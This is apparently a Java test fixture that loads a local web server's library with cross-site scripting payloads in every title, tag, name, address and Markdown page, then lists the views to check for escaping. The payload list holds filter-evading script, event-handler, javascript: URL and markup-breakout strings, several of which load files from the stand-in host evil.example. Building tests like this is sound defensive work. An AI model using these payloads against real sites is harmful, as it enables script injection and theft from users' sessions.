package dev.kith.web;

import static dev.kith.Library.item;

import dev.kith.Library;
import dev.kith.fields.Fields;
import dev.kith.model.Content;
import dev.kith.model.Identity;
import dev.kith.model.Item;
import dev.kith.model.Kind;
import dev.kith.model.Part;
import dev.kith.model.Person;
import dev.kith.model.Role;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/// A company whose every title, text, tag, address and name wants to run as script, behind a server.
final class Hostile implements AutoCloseable {
  /// Each sets `window.ran` if it is ever taken for markup or followed as an address.
  private static final List<String> WRITTEN = List.of(
      "<script>window.ran=1</script>",
      "<ScRiPt>window.ran=1</sCrIpT>",
      "<script src=//evil.example/x.js></script>",
      "<script>/*</script><script>*/window.ran=1</script>",
      "<img src=x onerror=window.ran=1>",
      "<img src=x onerror='window.ran=1'//",
      "<svg onload=window.ran=1>",
      "<svg><script>window.ran=1</script></svg>",
      "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
      "<body onload=window.ran=1>",
      "<iframe src=javascript:window.ran=1></iframe>",
      "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
      "<object data=javascript:window.ran=1></object>",
      "<embed src=javascript:window.ran=1>",
      "<details open ontoggle=window.ran=1>",
      "<video><source onerror=window.ran=1></video>",
      "<input autofocus onfocus=window.ran=1>",
      "<style>@import 'http://evil.example/x.css';</style>",
      "<link rel=stylesheet href=http://evil.example/x.css>",
      "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
      "<base href=http://evil.example/>",
      "<form action=javascript:window.ran=1><button>go</button></form>",
      "<math><mtext><img src=x onerror=window.ran=1></mtext></math>",
      "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
      "</title><script>window.ran=1</script>",
      "</textarea><script>window.ran=1</script>",
      "\" onmouseover=window.ran=1 autofocus x=\"",
      "' onfocus='window.ran=1' autofocus '",
      "&lt;script&gt;window.ran=1&lt;/script&gt;",
      "{{constructor.constructor('window.ran=1')()}}");
  /// Each written one, and every event on every tag.
  static final List<String> PAYLOADS = Stream.concat(WRITTEN.stream(), Stream.of("a href=# ", "b ", "div contenteditable ",
      "p tabindex=0 ", "audio src=x ", "select autofocus ", "marquee ").flatMap(tag -> Stream.of("onclick", "onerror", "onfocus",
      "onload", "onmouseenter", "onpointerover", "onanimationstart", "onstart", "onkeydown", "ontoggle")
      .map(event -> "<" + tag + event + "=window.ran=1>" + event))).toList();
  private static final List<String> ADDRESSES = List.of("javascript:window.ran=1", "JaVaScRiPt:window.ran=1",
      " javascript:window.ran=1", "java\tscript:window.ran=1", "data:text/html,<script>parent.ran=1</script>",
      "vbscript:window.ran=1", "//evil.example/x",
      "https://ok.example/\" onclick=window.ran=1 x=\"");

  private final Library library;
  private final WebServer server;

  Hostile(Path folder) throws IOException {
    library = new Library(folder);
    library.add(new Person("people", "mira", PAYLOADS.getFirst(), List.of(), PAYLOADS.get(4), PAYLOADS.get(6), "",
        PAYLOADS.get(9),
        PAYLOADS.get(10), List.of(PAYLOADS.get(11), PAYLOADS.get(26)), List.of(), true, true));
    Item[] items = new Item[PAYLOADS.size()];
    for (int i = 0; i < items.length; i++) {
      String payload = PAYLOADS.get(i);
      items[i] = Item.of("wiki", "p" + i, Kind.PAGE, "Walrus " + payload, Content.plain("The walrus says " + payload
          + " to all."))
          .withUrl(ADDRESSES.get(i % ADDRESSES.size())).withTags(List.of(payload)).withPlace(List.of(payload))
          .withParts(List.of(new Part(Identity.of("mira"), Role.AUTHOR, Library.daysAgo(i)),
              new Part(Identity.of("wiki", "w" + i, payload), Role.EDITOR, Library.daysAgo(i))))
          .withTimes(Library.daysAgo(i), Library.daysAgo(i));
    }
    library.add(items);
    library.add(item("wiki", "marked", Kind.PAGE, "Walrus in Markdown", "# " + PAYLOADS.getFirst()
        + "\n\n[a walrus](javascript:window.ran=1)\n\n"
        + String.join("\n\n", PAYLOADS)));
    List<String> examples = List.of(PAYLOADS.getFirst(), "who knows " + PAYLOADS.get(4));
    server = WebServer.start(new WebServer.Settings("127.0.0.1", 0, PAYLOADS.get(4), null, List.of(), examples, true, null, new WebServer.Limits(100_000, 100_000)),
        library.search(), library.experts(), library.store(), new Site.State(), new Admin(new Site.Orders(), "none"), _ -> java.util.Optional.empty());
  }

  String url() {
    return "http://127.0.0.1:" + server.port();
  }

  /// Views that show them all.
  List<String> addresses() {
    List<String> out = new ArrayList<>(List.of("/", "/search?q=walrus", "/people?q=walrus",
        "/people/mira", "/topics/walrus", "/gaps", "/people?q=walrus&gems=true"));
    for (int page = 2; page <= 1 + PAYLOADS.size() / 20; page++) {
      out.add("/search?q=walrus&page=" + page);
    }
    for (int i = 0; i < WRITTEN.size(); i++) {
      out.add("/d/" + Fields.id("wiki", "p" + i));
    }
    out.add("/d/" + Fields.id("wiki", "marked"));
    for (String payload : PAYLOADS.subList(0, 6)) {
      String encoded = URLEncoder.encode(payload, StandardCharsets.UTF_8);
      out.add("/search?q=" + encoded);
      out.add("/people?q=" + encoded);
      out.add("/topics/" + encoded.replace("+", "%20"));
      out.add("/search?q=walrus+" + encoded + "+-author:nobody&preview=" + Fields.id("wiki", "p1"));
      out.add("/search?q=walrus&tag=" + encoded + "&source=" + encoded + "&sort=newest");
    }
    return out;
  }

  @Override
  public void close() {
    server.close();
    library.close();
  }
}
